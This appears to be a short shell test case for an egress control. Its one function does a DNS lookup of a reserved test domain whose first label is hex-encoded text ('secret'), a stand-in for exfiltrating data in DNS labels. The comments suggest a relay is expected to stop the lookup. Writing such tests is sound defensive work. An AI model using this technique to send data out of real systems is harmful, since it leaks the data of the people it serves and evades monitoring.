# Data in the labels of a name that is looked up.
# stops: relay
# oracle: wire
attempt() { getent ahosts 736563726574.more.test; }
